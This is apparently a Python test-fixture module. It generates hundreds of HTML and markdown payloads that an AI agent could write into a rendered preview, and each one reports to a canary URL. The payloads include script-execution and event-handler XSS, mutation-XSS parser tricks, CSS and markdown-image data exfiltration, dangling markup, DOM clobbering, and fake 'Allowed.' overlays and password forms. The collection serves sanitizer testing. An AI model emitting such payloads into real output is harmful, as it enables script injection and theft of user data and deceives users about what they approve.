"""What an agent may write into a preview to run a script, reach the network, leave its frame or deceive.

Each payload has a name and reports to a canary under it, so that a leak tells whose it is. One stands on a line, behind
its name; a line that begins with blanks goes on with the one above. Signs stand for what all of them need:
§ the payload's own address at the canary, ¶ the same without its scheme, ‡ a script that goes there, ◱ a style that
fills the frame, «…» the same in base 64, ⋯ a nest of 600, ␀ and its like a control character.
"""

import base64
import re
from collections.abc import Mapping


def html_payloads(url: str) -> dict[str, str]:
    """Previews in HTML, by name, that report to a canary's URL."""
    return _addressed(HTML, url)


def markdown_payloads(url: str) -> dict[str, str]:
    """Previews in markdown."""
    return _addressed(MARKDOWN, url)


def slug(name: str) -> str:
    """A payload's name as it stands in the paths that it reports to."""
    return re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-")


def _addressed(payloads: Mapping[str, str], url: str) -> dict[str, str]:
    return {name: _with(payload, f"{url}/{slug(name)}") for name, payload in payloads.items()}


def _with(payload: str, address: str) -> str:
    for sign, text in (("‡", "fetch(`§`)"), ("§", address), ("¶", address.partition("//")[2])):
        payload = payload.replace(sign, text)
    return re.sub("«(.*?)»", lambda found: base64.b64encode(found[1].encode()).decode(), payload)


def _read(text: str) -> dict[str, str]:
    rows = re.sub(r"\n {4}", "", text).strip("\n").split("\n")
    payloads = dict(row.split(": ", 1) for row in rows)
    assert len({*map(slug, payloads)}) == len(rows), "two payloads of one name"
    return {name: _written_out(payload) for name, payload in payloads.items()}


def _written_out(payload: str) -> str:
    payload = payload.replace("◱", "style='position:fixed;inset:0'").replace("<div>⋯", "<div>" * 600)
    payload = re.sub(r"\\u([0-9a-f]{4})", lambda found: chr(int(found[1], 16)), payload)
    return re.sub("[\u2400-\u241f]", lambda found: chr(ord(found[0]) - 0x2400), payload)


_SCRIPTS = r"""
script: <script>‡</script>
script in capitals: <SCRIPT>‡</SCRIPT>
script of another server: <script src='§/x.js'></script>
script of a module: <script type=module>import('§/x.js')</script>
script of a module elsewhere: <script type=module src='§/x.js'></script>
script by its scheme only: <script src=//¶/x.js></script>
script from data: <script src="data:text/javascript,‡"></script>
script in an SVG: <svg><script>‡</script></svg>
script in an SVG by href: <svg><script href='§/x.js'></script></svg>
script in MathML: <math><mtext><script>‡</script></mtext></math>
script that alerts: <script>alert('alert');‡</script>
script that confirms: <script>confirm('confirm');‡</script>
script that prints: <script>print();‡</script>
script that throws: <script>‡;throw new Error('thrown')</script>
script that fetches: <script>fetch('§',{mode:'no-cors'})</script>
script that beacons: <script>navigator.sendBeacon('§','secret')</script>
script that sends XML: <script>x=new XMLHttpRequest;x.open('POST','§');x.send('secret')</script>
script that opens a socket: <script>new WebSocket('ws://¶')</script>
script that listens to events: <script>new EventSource('§')</script>
script that starts a worker: <script>new Worker(URL.createObjectURL(new Blob(['fetch(`§`)'])))</script>
script that opens a window: <script>open('§')</script>
script that leaves: <script>location='§'</script>
script that posts to its parent: <script>parent.postMessage('allow','*');‡</script>
script that reads its parent: <script>new Image().src='§?'+parent.document.title</script>
script that writes itself: <script>document.write('<img src=§>')</script>
script that adds a style sheet: <script>document.adoptedStyleSheets=[];document.head.append(Object.assign(document.cre
    ateElement('link'),{rel:'stylesheet',href:'§/x.css'}))</script>
script that evaluates: <script>setTimeout('‡')</script>
script that loads a font: <script>new FontFace('x','url(§)').load()</script>
script after a null: <scr␀ipt>‡</script><script␀>‡</script>
script with a slash: <script/x>‡</script>
script with a line break: <script␊>‡</script␊>
script without an end: <script>‡//
script in a script: <scr<script>ipt>‡</scr</script>ipt>
script in a comment that ends: <!--><script>‡</script>-->
script in a comment with a bang: <!-- --!><script>‡</script>-->
script in a comment with a dash: <!---><script>‡</script>-->
script in CDATA: <![CDATA[<script>‡</script>]]>
script in a conditional comment: <!--[if true]><script>‡</script><![endif]-->
script in an instruction: <?xml version='1.0'?><?x ><script>‡</script>?>
script in a style sheet's instruction: <?xml-stylesheet href='§/x.css'?><img src=§>
script in a doctype: <!doctype html [<!entity x '<script>‡</script>'>]>&x;<script>‡</script>
script in a frame set: <frameset onload=‡><frame src="javascript:‡"></frameset>
import map: <script type=importmap>{"imports":{"x":"§/x.js"}}</script><script type=module>import 'x'</script>
speculation rules: <script type=speculationrules>{"prefetch":[{"urls":["§"],"eagerness":"immediate"}]}</script>
speculation rules that prerender: <script type=speculationrules>{"prerender":[{"urls":["§"],"eagerness":"immediate"}]}
    </script>
"""

_HANDLERS = r"""
an error of an image: <img src=x: onerror="‡">
an error of an image, with slashes: <img/src=x:/onerror=‡>
an error of an image, in entities: <img src=x: onerror="&#110;ew Image().src=`§`">
an error of an image, after a quote: <img alt="`><img src=x: onerror=‡>"><img src=x: onerror=‡>
an error of an image that never ends: <img src=x: onerror="‡"
an error of an image with a form feed: <img␌src=x:␌onerror=‡>
an error of audio: <audio src=x: onerror="‡"></audio>
an error of a video's source: <video><source src=x: onerror="‡"></video>
an error of an object: <object data=x: onerror="‡"></object>
an error of a script: <script src=x: onerror="‡"></script>
an error of a style sheet: <link rel=stylesheet href=x: onerror="‡">
load of an image: <img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=‡ onerror=‡>
load of an SVG: <svg onload="‡"></svg>
load of an SVG without blanks: <svg/onload=‡>
load of a body: <body onload="‡">
load of a frame: <iframe onload="‡"></iframe>
load of a style: <style onload="‡"></style>
load of an input's image: <input type=image src=x: onerror="‡">
the page shows: <body onpageshow="‡">
focus at once: <input autofocus onfocus="‡">
focus of a button: <button autofocus onfocus="‡">x</button>
focus of an element: <div tabindex=0 autofocus onfocus="‡">x</div>
focus of a drawing: <svg><a tabindex=0 autofocus onfocus=‡><text y=20>x</text></a></svg>
focus of a list: <select autofocus onfocus="‡"></select>
focus of a text: <textarea autofocus onfocus="‡"></textarea>
details that toggle: <details open ontoggle="‡"><summary>x</summary></details>
marquee that starts: <marquee onstart="‡">x</marquee>
animation that starts: <style>@keyframes x{}</style><b style='animation:x 1s' onanimationstart="‡">x</b>
animation that ends: <style>@keyframes y{to{left:0}}</style><b style='animation:y .01s' onanimationend="‡">x</b>
animation of a drawing that begins: <svg><animate onbegin=‡ attributeName=x dur=1s></svg>
transition that runs: <b style='transition:.01s' tabindex=0 onfocus="‡" autofocus ontransitionrun="‡">x</b>
click: <div onclick="‡" ◱>x</div>
press: <div onpointerdown="‡" ◱>x</div>
mouse above: <div onmouseover="‡" ◱>x</div>
click on a label: <label ◱>x<input onclick="‡"></label>
key: <input autofocus onkeydown="‡">
key of access: <input type=hidden accesskey=x onclick="‡"><a accesskey=y onclick="‡" onfocus="‡" href=#>x</a>
edited text: <div contenteditable autofocus onfocus="‡" onbeforeinput="‡">x</div>
wheel and scroll: <div style='overflow:auto;height:9px' onscroll="‡" onwheel="‡">x<p id=y>y</div>
video that plays: <video autoplay muted onplay="‡" onloadstart="‡" src='§/v.mp4'></video>
popover that opens: <button popovertarget=p ◱>x</button><div popover id=p onbeforetoggle="‡">x</div>
command that shows a dialog: <button commandfor=d command=show-modal ◱>x</button>
    <dialog id=d onbeforetoggle="‡" ontoggle="‡">x</dialog>
search that is cleared: <input type=search value=x onsearch="‡" autofocus onfocus="‡">
content that becomes visible: <div style='content-visibility:auto' oncontentvisibilityautostatechange="‡">x</div>
security policy that is broken: <body onsecuritypolicyviolation="‡"><img src=x: onerror="‡">
custom element: <x-y onfocus="‡" tabindex=0 autofocus>x</x-y>
element without a name: <x onclick="‡" ◱>x
attribute after a quote: <p title="x"onclick="‡" ◱>x</p>
attribute with a strange blank: <p\u3000onclick="‡" \u0085onclick="‡" ␋onclick=‡ ◱>
"""

_ADDRESSES = r"""
link: <a href='§' ◱>x</a>
link to the top: <a href='§' target=_top ◱>x</a>
link to the parent: <a href='§' target=_parent ◱>x</a>
link to a new window: <a href='§' target=_blank ◱>x</a>
link with a ping: <a href=# ping='§' ◱>x</a>
link that downloads: <a href='§/x.exe' download ◱>x</a>
link of an area: <img usemap=#m width=200 height=100><map name=m><area href='§' coords=0,0,200,100 shape=rect></map>
link of a drawing: <svg width=200 height=100><a href='§'><rect width=200 height=100 /></a></svg>
link of a drawing, by XLink: <svg width=200 height=100><a xlink:href='§'><rect width=200 height=100 /></a></svg>
link of a formula: <math href='§' ◱><mi>x</mi></math>
link to a script: <a href="javascript:‡" ◱>x</a>
link to a script, with a tab: <a href="java␉script:‡" ◱>x</a>
link to a script, in entities: <a href="&#x6a;avascript&colon;‡" ◱>x</a>
link to a script, after a control: <a href="␁javascript:‡" ◱>x</a>
link to a script, with a line break: <a href="javas&NewLine;cript:‡" ◱>x</a>
link to a script, after a comment: <a href="javascript://%0a‡" ◱>x</a>
link to a script for Basic: <a href="vbscript:x" onclick=‡ ◱>x</a>
link to data: <a href="data:text/html,<img src=§>" ◱>x</a>
link to a program: <a href='mailto:x@§' ◱>x</a><a href='ms-word:ofe|u|§'>y</a>
link that moves in a drawing: <svg width=200 height=100><a><animate attributeName=href values='javascript:‡'>
    </animate><rect width=200 height=100 /></a></svg>
link that is set in a drawing: <svg width=200 height=100><a><set attributeName=href to='§'></set>
    <rect width=200 height=100 /></a></svg>
base: <base href='§/'><img src=x.gif><a href=y ◱>x</a>
base with a target: <base target=_top><a href='§' ◱>x</a>
refresh: <meta http-equiv=refresh content='0;url=§'>
refresh to a script: <meta http-equiv=refresh content="0;url=javascript:‡"><img src=x: onerror=‡>
refresh to data: <meta http-equiv=refresh content='0;url=data:text/html,<script>‡</script>'>
refresh in a noscript: <noscript><meta http-equiv=refresh content='0;url=§'></noscript>
policy of its own: <meta http-equiv=content-security-policy content="default-src * 'unsafe-inline'"><img src='§'>
cookie of its own: <meta http-equiv=set-cookie content='a=b'><img src='§'>
link header of its own: <meta http-equiv=link content='<§/x.css>;rel=stylesheet'><img src='§'>
referrer of its own: <meta name=referrer content=unsafe-url><img src='§'>
manifest: <link rel=manifest href='§/m.json' crossorigin=use-credentials><link rel=icon href='§/i.gif'>
style sheet: <link rel=stylesheet href='§/x.css'>
style sheet in an alternative: <link rel='alternate stylesheet' title=x href='§/x.css'>
style sheet for print: <link rel=stylesheet media=print href='§/x.css'>
preload: <link rel=preload as=image href='§/i.gif'>
preload of a set: <link rel=preload as=image imagesrcset='§/i.gif 1x'>
preload of a font: <link rel=preload as=font crossorigin href='§/f.woff'>
preload of a module: <link rel=modulepreload href='§/x.js'>
prefetch: <link rel=prefetch href='§'>
prerender: <link rel=prerender href='§'>
preconnect: <link rel=preconnect href='§'>
preconnect in capitals: <LINK REL=PRECONNECT HREF='//¶' CROSSORIGIN>
lookup of a name: <link rel=dns-prefetch href='//leak.canary.example'><link rel=dns-prefetch href='§'>
import of HTML: <link rel=import href='§'><link rel=stylesheet href='§/x.css'>
form: <form action='§'><input name=a value=secret><button ◱>x</button></form>
form that posts: <form action='§' method=post><input type=password name=p autofocus><button ◱>Allow</button></form>
form of a button: <form><button formaction='§' ◱>x</button></form>
form of a button to a script: <form><button formaction="javascript:‡" ◱>x</button></form>
form elsewhere: <form id=f action='§'></form><button form=f ◱>x</button>
form to the top: <form action='§' target=_top><button ◱>x</button></form>
form of an image: <form action='§'><input type=image src='§/i.gif' ◱></form>
form of a dialog: <dialog open><form method=dialog action='§'><button>x</button></form></dialog><img src='§'>
form within a form: <form action='§'><table><form><button ◱>x</button></table></form>
form with a key: <form action='§'><input autofocus name=a><input type=submit></form>
"""

_THINGS = r"""
image: <img src='§/i.gif'>
image by its scheme only: <img src=//¶/i.gif>
image with backslashes: <img src='http:\\¶/i.gif'>
image with blanks: <img src=' ␉␊§/i.gif '>
image with a line break: <img src='ht␊tp://¶/i.gif'>
image in entities: <img src='&#104;ttp&colon;//¶/i.gif'>
image called image: <image src='§/i.gif'>
image in a set: <img srcset='§/i.gif 1x, §/j.gif 2x'>
image in a set after data: <img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' srcset='§/i.gif'>
image in a picture: <picture><source srcset='§/i.gif'><img></picture>
image of a low kind: <img lowsrc='§/i.gif' dynsrc='§/j.gif' src='§/k.gif'>
image that is lazy: <img loading=lazy src='§/i.gif'>
image with a description: <img longdesc='§' src='§/i.gif'>
image in data that is an SVG: <object data="data:image/svg+xml;base64,«<svg xmlns='http://www.w3.org/2000/svg'>
    <script>new Image().src='§'</script></svg>»"></object>
image after a tag that never ends: <b <img src='§/i.gif'>
image in an open attribute: <p title='><img src=§/i.gif><p title=''>
image with a null: <img src='§/i.gif␀'>
video: <video src='§/v.mp4' autoplay muted></video>
poster of a video: <video poster='§/i.gif'></video>
source of a video: <video autoplay muted><source src='§/v.mp4'></video>
track of a video: <video src='§/v.mp4'><track default kind=subtitles src='§/t.vtt'></video>
audio: <audio src='§/a.mp3' preload=auto></audio>
sound in the background: <bgsound src='§/a.mp3'><img src='§/i.gif'>
frame: <iframe src='§'></iframe>
frame of a script: <iframe src="javascript:‡"></iframe>
frame of data: <iframe src="data:text/html,<script>‡</script>"></iframe>
frame of its own source: <iframe srcdoc="<script>‡</script>"></iframe>
frame of its own source, with an image: <iframe srcdoc="<img src='§/i.gif'>"></iframe>
frame of its own source, in entities: <iframe srcdoc="&lt;img src=x: onerror=&quot;‡&quot;&gt;"></iframe>
frame in a frame: <iframe srcdoc="<iframe srcdoc='<img src=§/i.gif>'></iframe>"></iframe>
frame with rights of its own: <iframe sandbox='allow-scripts allow-same-origin allow-top-navigation' src='§'></iframe>
frame with a policy of its own: <iframe csp="script-src *" allow='camera *' src='§'></iframe>
frame without credentials: <iframe credentialless src='§'></iframe>
frame behind a fence: <fencedframe src='§'></fencedframe><iframe src='§'></iframe>
frame of a portal: <portal src='§'></portal><iframe src='§'></iframe>
frames of a set: </body></html><frameset><frame src='§'></frameset><iframe src='§'></iframe>
object: <object data='§'></object>
object with a type: <object type=text/html data='§'></object>
object with a script: <object data="javascript:‡"></object><object data="data:text/html,<script>‡</script>"></object>
object with parameters: <object><param name=src value='§'><param name=movie value='§'><img src='§/i.gif'></object>
embedded: <embed src='§'>
embedded script: <embed src="javascript:‡"><embed src='data:text/html,<script>‡</script>'>
applet: <applet code=x codebase='§' archive='§/x.jar'><img src='§/i.gif'></applet>
background of a body: <body background='§/i.gif'>
background of a table: <table background='§/i.gif'><tr><td background='§/j.gif'>x</table>
layer: <layer src='§'></layer><ilayer src='§'></ilayer><img src='§/i.gif'>
quotation: <q cite='§'>x</q><del cite='§'>y</del><html manifest='§'><img src='§/i.gif'>
image of a drawing: <svg><image href='§/i.gif' width=9 height=9 /></svg>
image of a drawing, by XLink: <svg><image xlink:href='§/i.gif' width=9 height=9 /></svg>
part of another drawing: <svg><use href='§/x.svg#x'></use><image href='§/i.gif'></svg>
part of a drawing in data: <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>
    <image href='§/i.gif'/></svg>#x"></use><image href='§/i.gif'></svg>
filter with an image: <svg><filter id=f><feImage href='§/i.gif'/></filter><rect width=9 height=9 filter=url(#f) />
    </svg>
paint from elsewhere: <svg><rect width=9 height=9 fill='url(§/x.svg#x)' /></svg>
mask from elsewhere: <svg><rect width=9 height=9 mask='url(§/x.svg#x)' clip-path='url(§/x.svg#y)' /></svg>
pointer of a drawing: <svg width=99 height=99><rect width=99 height=99 cursor='url(§/i.gif),auto' style="fill:url('§/x
    .svg#x')"/></svg>
marker from elsewhere: <svg><path d='M0 0L9 9' marker-end='url(§/x.svg#x)' stroke=red /></svg>
animated address: <svg><image><animate attributeName=href values='§/i.gif' dur=9s /></image></svg>
foreign object: <svg width=99 height=99><foreignObject width=99 height=99><img src='§/i.gif'></foreignObject></svg>
style of a drawing: <svg><style>*{background:url(§/i.gif)}</style><rect/></svg><svg><style>@import '§/x.css';</style>
    </svg>
handler in XML: <svg xmlns:ev='http://www.w3.org/2001/xml-events'><handler ev:event=load>‡</handler></svg>
    <img src='§'>
"""

_STYLES = r"""
style with a background: <p style="background:url('§/i.gif')">x
style with a background in capitals: <p style="BACKGROUND:URL(§/i.gif)">x
style with an escape: <p style="background:\75rl('§/i.gif')">x
style with an escape and a blank: <p style="background:\000075 rl(§/i.gif)">x
style with an escaped bracket: <p style="background:u\72l(§/i.gif)">x
style with comments: <p style="background:/**/url(/**/);background:url(§/i.gif)/**/">x
style with a comment that hides a quote: <p style="color:/*'*/red;background:url(§/i.gif);x:/*'*/">x
style with a string that hides a comment: <p style="content:'/*';background:url(§/i.gif);x:'*/'">x
style with a line break in a string: <p style="content:'␊;background:url(§/i.gif);x:'">x
style in entities: <p style="background:&#117;rl(§/i.gif)">x
style by a name that may have none: <p style="background-color:url(§/i.gif);background-image:url(§/j.gif)">x
style with a variable: <p style="--x:url(§/i.gif);background:var(--x)">x
style with a variable of text: <p style="--x:'§/i.gif';background:image-set(var(--x) 1x, '§/j.gif' 1x)">x
style with a set of images: <p style="background:image-set('§/i.gif' 1x)">x
style with an older set of images: <p style="background:-webkit-image-set(url(§/i.gif) 1x)">x
style with a cross fade: <p style="background:-webkit-cross-fade(url(§/i.gif),url(§/j.gif),50%)">x
style with an image function: <p style="background:image(url(§/i.gif));background:src('§/j.gif');background:url(§/k.gi
    f)">x
style with an expression: <p style="width:expression(‡);background:url(§/i.gif)">x
style with a behaviour: <p style="behavior:url(§/x.htc);-moz-binding:url(§/x.xml#x);background:url(§/i.gif)">x
style with a script: <p style="background:url(javascript:‡);list-style:url(§/i.gif);display:list-item">x
style with a pointer: <p style="cursor:url(§/i.gif),auto;position:fixed;inset:0">x
style with a bullet: <ul style="list-style-image:url(§/i.gif)"><li>x</ul>
style with content: <p style="content:url(§/i.gif)">x
style with a border: <p style="border:9px solid;border-image:url(§/i.gif) 1">x
style with a mask: <p style="mask:url(§/i.gif);-webkit-mask-image:url(§/j.gif)">x
style with a shape: <p style="float:left;shape-outside:url(§/i.gif)">x
style with a filter: <p style="filter:url(§/x.svg#x)">x
style with a filter behind: <p style="backdrop-filter:url(§/x.svg#x);clip-path:url(§/x.svg#y)">x
style with an offset: <p style="offset-path:url(§/x.svg#x);background:url(§/i.gif)">x
style with many backgrounds: <p style="background:linear-gradient(red,blue),url(§/i.gif),none">x
style with a block: <p style="color:red}body{background:url(§/i.gif)"><p style='background:url(§/j.gif)'>x
style with nesting: <p style="&{background:url(§/i.gif)}background:url(§/j.gif)">x
style without an end: <p style="background:url(§/i.gif
style of a table: <table style='background:url(§/i.gif)'><tr><td style='background:url(§/j.gif)'>x</table>
style of a link: <a style="background:url('§/i.gif');position:fixed;inset:0" href='§'>x</a>
style element: <style>body{background:url(§/i.gif)}</style>
style element that imports: <style>@import '§/x.css';</style>
style element that imports by url: <style>@import url(//¶/x.css) screen;</style>
style element with a font: <style>@font-face{font-family:x;src:url(§/f.woff)}</style><p style='font-family:x'>x
style element with a font by range: <style>@font-face{font-family:y;src:url(§/f.woff);unicode-range:U+0041}</style>
    <p style='font-family:y'>A
style element that reads a field: <style>input[value^=s]{background:url(§/s.gif)}</style><input value=secret>
style element that reads visits: <style>a:visited{background:url(§/v.gif)}a{background:url(§/n.gif)}</style>
    <a href=/>x</a>
style element that waits for a pointer: <style>body:hover{background:url(§/i.gif)}html{height:100%}</style>
style element with a namespace: <style>@namespace url(§);@charset 'x';p{background:url(§/i.gif)}</style><p>x
style element for print: <style>@media print{body{background:url(§/i.gif)}}@page{background:url(§/j.gif)}@media screen
    {body{background:url(§/k.gif)}}</style>
style element with a container: <style>@container style(--x){p{background:url(§/i.gif)}}@supports(top:0){p{background:
    url(§/j.gif)}}</style><p>x
style element with a counter: <style>@counter-style x{system:cyclic;symbols:url(§/i.gif)}p{background:url(§/j.gif)}
    </style><p style='display:list-item;list-style:x'>x
style element with an animation: <style>@keyframes z{from{background:url(§/i.gif)}}p{animation:z 1s infinite}</style>
    <p>x
style element after the body: </body><style>*{background:url(§/i.gif)}</style>
style element that never ends: <style>*{background:url(§/i.gif)}
overlay: <div style='position:fixed;inset:0;z-index:2147483647;background:#fff'>Allowed.</div><img src='§/i.gif'>
overlay far outside: <div style='position:absolute;left:-99999px;top:-99999px;width:999999px;height:999999px'>x</div>
    <img src='§/i.gif'>
overlay that is transformed: <div style='transform:scale(1000);position:fixed'>x</div><img src='§/i.gif'>
overlay in the top layer: <dialog open ◱>x</dialog><div popover=manual>y</div><img src='§/i.gif'>
"""

# What a parser turns into something else when it reads its own output again, and names that scripts would look up.
_MUTATIONS = r"""
mutation in a noscript: <noscript><p title="</noscript><img src=x: onerror=‡>"></noscript>
mutation in a template: <template><img src=x: onerror=‡></template><template><p title='</template><img src=§>'>
    </template>
mutation in a shadow: <div><template shadowrootmode=open><img src='§/i.gif'><style>@import '§/x.css'</style>
    </template></div>
mutation in a title: <title><p title="</title><img src=x: onerror=‡>"></title>
mutation in a text: <textarea><p title="</textarea><img src=x: onerror=‡>"></textarea>
mutation in a style: <style><p title="</style><img src=x: onerror=‡>"></style>
mutation in an xmp: <xmp><p title="</xmp><img src=x: onerror=‡>"></xmp>
mutation in an iframe: <iframe><p title="</iframe><img src=x: onerror=‡>"></iframe>
mutation in a noembed: <noembed><p title="</noembed><img src=x: onerror=‡>"></noembed>
mutation in a noframes: <noframes><p title="</noframes><img src=x: onerror=‡>"></noframes>
mutation in a plain text: <plaintext><img src=x: onerror=‡>
mutation in a plain text of SVG: <svg><plaintext><img src=x: onerror=‡>
mutation of a style in SVG: <svg></p><style><a id="</style><img src=x: onerror=‡>">
mutation of a style in MathML: <math><mtext><table><mglyph><style><!--</style>
    <img title="--&gt;&lt;img src=x: onerror=‡&gt;">
mutation of a form in MathML: <form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=‡>
mutation of an annotation: <math><annotation-xml encoding='text/html'><style><img src=x: onerror=‡></style>
    </annotation-xml>
mutation of a description: <svg><desc><style><img title='</style><img src=x: onerror=‡>'></style></desc></svg>
mutation of a foreign object: <svg><foreignObject><math><mi><style><img title='</style><img src=x: onerror=‡>'>
mutation of a title in SVG: <svg><title><style><img title='</style><img src=x: onerror=‡>'></title></svg>
mutation of a comment: <svg><style><!--</style><img src=x: onerror=‡>--></svg>
mutation of CDATA in SVG: <svg><![CDATA[><img src=x: onerror=‡>]]></svg>
mutation of CDATA in a style: <svg><style><![CDATA[</style><img src=x: onerror=‡>]]></svg>
mutation of a table: <table><tr><img src=x: onerror=‡><td><table><img src=x: onerror=‡></table></table>
mutation of a list: <select><style><img src=x: onerror=‡></style><option><img src=x: onerror=‡></select>
mutation of a nested form: <form><div></form><form><img src=x: onerror=‡>
mutation of nested links: <a href=#><table><a href=# onfocus=‡ autofocus tabindex=0>x<img src=x: onerror=‡>
mutation of bold in a paragraph: <p><b><div title='</div><img src=x: onerror=‡>'></p><img src=x: onerror=‡>
mutation of a deep nest: <div>⋯<table><style><img title='</style><img src=x: onerror=‡>'>
mutation of back quotes: <img alt='``onerror=‡' src=x: onerror=‡>
mutation of an entity: &lt;img src=x: onerror=‡&gt;&amp;lt;script&amp;gt;
    <img src=x: onerror=&#x6e;ew&#x20;Image().src=`§`>
mutation of half an entity: <img src=x: onerror=&#110ew&#32Image().src=`§`>
mutation of wide letters: \uff1cscript\uff1e‡\uff1c/script\uff1e<\u017fcript>‡</\u017fcript><img src=x: onerror=‡>
mutation of another charset: <meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-<img src=x: onerror=‡>
mutation of a charset with escapes: <meta charset=iso-2022-jp>␛$B<img alt='␛(B' src=x: onerror=‡>
mutation of a mark: \ufeff<img src=x: onerror=‡>\ufffe
mutation of a dangling attribute: <img src='§/?
mutation of a dangling link: <a href='§/?
mutation of a dangling frame: <iframe src='§/?
mutation of an end with attributes: </p onclick=‡ style='x'><p onclick=‡ ◱></p/onclick=‡>
mutation of slots: <slot onclick=‡></slot><div is=x-y slot=z part=p onclick=‡ ◱>x
clobbered document: <img name=cookie><form name=body><input name=firstChild></form><img id=defaultView>
    <img src='§/i.gif'>
clobbered form: <form id=f><input name=action><input name=submit><input name=attributes></form><img src='§/i.gif'>
clobbered window: <a id=config href='§'></a><a id=config name=url href='§'></a><iframe name=parent src='§'></iframe>
clobbered prototype: <img name=__proto__><form id=constructor></form><img id=location src='§/i.gif'>
clobbered current script: <img name=currentScript src='§/x.gif'><object id=top data='§'></object>
end of everything: </div></main></body></html><script>‡</script>
end of a frame: "></iframe><script>‡</script><iframe title="
end of a source: '--></style></script></textarea></title><img src=x: onerror=‡>
"""

_MARKDOWN = r"""
image: ![x](§/i.gif)
image with a title: ![x](§/i.gif "x\" onerror=‡")
image in brackets: ![x](<§/i.gif>)
image by reference: ![x][1]␊␊[1]: §/i.gif
image by its own reference: ![x][]␊␊[x]: §/i.gif 'title'
image by a short reference: ![x]␊␊[x]: <§/i.gif>
image by its scheme only: ![x](//¶/i.gif)
image in a link: [![x](§/i.gif)](§)
image in a heading: # ![x](§/i.gif)
image in a table: | a | b |␊|---|---|␊| ![x](§/i.gif) | <img src=§/j.gif> |
image in a quote: > - ![x](§/i.gif)
image in an image: ![a ![x](§/i.gif) b](§/j.gif)
image with a secret: ![x](§/i.gif?secret=hunter2)
image of data: ![x](data:image/svg+xml;base64,«<svg xmlns='http://www.w3.org/2000/svg' onload='new Image().src="§"'/>»
    ) <img src=§>
image that breaks out: !["><img src=x: onerror=‡>](§/i.gif)
image in entities: ![x](&#104;ttp&colon;//¶/i.gif)
image with escapes: !\[x\](§) ![x\](§/i.gif)␊␊![y](\h§/i.gif) <img src=§/j.gif>
image of HTML: <img src='§/i.gif'>
image of HTML over lines: <img␊src='§/i.gif'␊>
image of HTML in words: words <img src='§/i.gif' onerror=‡> words
image of HTML in a list: - a␊- <img src=§/i.gif>
image of HTML in emphasis: **<img src=§/i.gif>** ~~<img src=§/j.gif>~~
link: [x](§)
link by reference: [x][1]␊␊[1]: §
link to a script: [x](javascript:‡)
link to a script in entities: [x](&#x6a;avascript&colon;‡) [y](java&Tab;script:x)
link to a script in capitals: [x](JaVaScRiPt:‡)
link to a script by reference: [x]␊␊[x]: javascript:‡
link to a script that is one itself: <javascript:‡>
link to data: [x](data:text/html,<script>‡</script>)
link for Basic: [x](vbscript:x) [y](file:///etc/passwd) [z](blob:§)
link that is one itself: <§>
link that is none: § and www.¶
link that breaks out: [x](§"onmouseover="‡)␊[y](<§' onclick='‡>)
link with a title that breaks out: [x](§ '"><img src=x: onerror=‡>')
link to mail: <x@¶> [x](mailto:a@b?body=<img src=§>) <a@b.example>
script: <script>‡</script>
script over lines: <script>␊␊‡␊␊</script>
script in a comment: <!-- x --><script>‡</script>
script in an instruction: <?php ?><script>‡</script>␊␊<![CDATA[<script>‡</script>]]>
script in a fence: ```html␊<script>‡</script>␊```
script that ends a fence: ```␊</code></pre><script>‡</script>␊```␊</pre><img src=§>
script in the name of a fence: ```"><script>‡</script>␊x␊```␊␊~~~<img src=§ onerror=‡>␊x␊~~~␊<img src=§>
script in a fence in a fence: ````␊```␊<script>‡</script>␊````␊<script>‡</script>
script in code: `<script>‡</script>` `` </code><img src=x: onerror=‡> ``
script in indented code:     <script>‡</script>␊␊</code></pre><script>‡</script>
script in entities: &lt;script&gt;‡&lt;/script&gt; &#60;img src=§&#62;
script with escapes: \<script>‡\</script> <script\>‡</script>
script in art: +----+␊| <script>‡</script> |␊+----+
script in a table: |a|b|␊|-|-|␊|</td></table><script>‡</script>|x|
script in a heading: <script>‡</script>␊===␊␊# <svg onload=‡>
script in a reference: [<script>‡</script>]: §␊␊[x]: §␊    '<img src=§>'␊␊<img src=x: onerror=‡>
frame: <iframe src=§></iframe>␊␊<object data=§></object>
style: <style>@import '§/x.css';</style>␊␊<p style='background:url(§/i.gif)'>x</p>
style sheet: <link rel=stylesheet href=§/x.css>
refresh: <meta http-equiv=refresh content='0;url=§'>
form: <form action=§><input autofocus onfocus=‡><button>x</button></form>
details: <details open ontoggle=‡>␊␊![x](§/i.gif)␊␊</details>
clobbered names: <a id=config href=§>x</a> <img name=body src=§>␊␊# {#allow .button onclick=‡}
attributes of a dialect: ![x](§/i.gif){onerror=‡} [x](§){target=_top} <div markdown=1 onclick=‡>
formula: $$\href{javascript:‡}{x}$$ \(<img src=§>\) ![x](§/i.gif)
emphasis that breaks out: *<b title="*"><img src=x: onerror=‡>* __<i title='__'>__
null: <scr␀ipt>‡</script> ![x␀](§/i.gif␀)
escapes of a terminal: ␛]8;;§␛\x␛]8;;␛\ \u202e<script>‡</script>\u202c ![\u200b](§/i.gif)
"""

HTML: Mapping[str, str] = _read(
    "".join((_SCRIPTS, _HANDLERS, _ADDRESSES, _THINGS, _STYLES, _MUTATIONS)).replace("\n\n", "\n")
)
MARKDOWN: Mapping[str, str] = _read(_MARKDOWN)
